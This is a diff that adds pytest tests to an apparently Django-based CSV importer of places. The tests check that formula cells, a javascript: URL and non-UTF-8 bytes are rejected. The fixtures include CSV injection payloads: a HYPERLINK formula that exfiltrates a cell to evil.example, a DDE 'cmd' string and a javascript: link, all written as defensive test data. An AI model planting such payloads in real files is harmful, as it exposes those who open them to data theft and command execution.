@@ -163,3 +163,40 @@ def test_a_file_without_some_optional_columns_leaves_them_alone(csv_file):
     report = run(csv_file(csv_bytes([make_row(1, nom="Autre nom")], columns=columns)))
     assert report.updated == {"lieu-1": ["nom"]}
     assert Place.objects.get().horaires == "Mo-Fr 09:00-12:00,14:00-18:30; Sa 08:30-12:00"
+
+
+def test_cells_a_spreadsheet_would_run_are_rejected_and_never_stored(csv_file):
+    rows = [
+        make_row(1, nom='=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'),
+        make_row(2, source="@SUM(1+1)*cmd|' /C calc'!A0"),
+        make_row(3, presentation_detail="\t=1+1"),
+        make_row(4, site_web="javascript:alert(1)"),
+        make_row(5, telephone="+33561000000", longitude="-1.44367"),
+    ]
+    report = run(csv_file(rows))
+    assert report.created == ["lieu-5"]
+    rejected = {
+        standard_id: [(issue.line, issue.field, issue.rule) for issue in issues]
+        for _, standard_id, issues in report.rejected
+    }
+    assert rejected == {
+        "lieu-1": [(2, "nom", "formula")],
+        "lieu-2": [(3, "source", "formula")],
+        "lieu-3": [(4, "presentation_detail", "formula")],
+        "lieu-4": [(5, "site_web", "url")],
+    }
+    assert "ligne 4, champ « presentation_detail », valeur « =1+1 »" in str(report.rejected[2][2][0])
+    place = Place.objects.get()
+    assert (place.telephone, place.longitude) == ("+33561000000", -1.44367)
+
+
+@pytest.mark.parametrize("line", [3, 120])
+def test_a_byte_that_is_not_utf8_is_reported_on_its_own_line(csv_file, line):
+    # Line 120 lies far beyond the first block the text reader decodes ahead.
+    content = csv_bytes([make_row(number) for number in range(1, line)])
+    lines = content.split(b"\n")
+    lines[line - 1] = lines[line - 1].replace(b"Lieu", b"Lieu \xe9", 1)
+    with pytest.raises(CommandError) as raised:
+        call_command("import_places", str(csv_file(b"\n".join(lines))))
+    assert f"n'est pas encodé en UTF-8 (ligne {line})" in str(raised.value)
+    assert not Place.objects.exists()
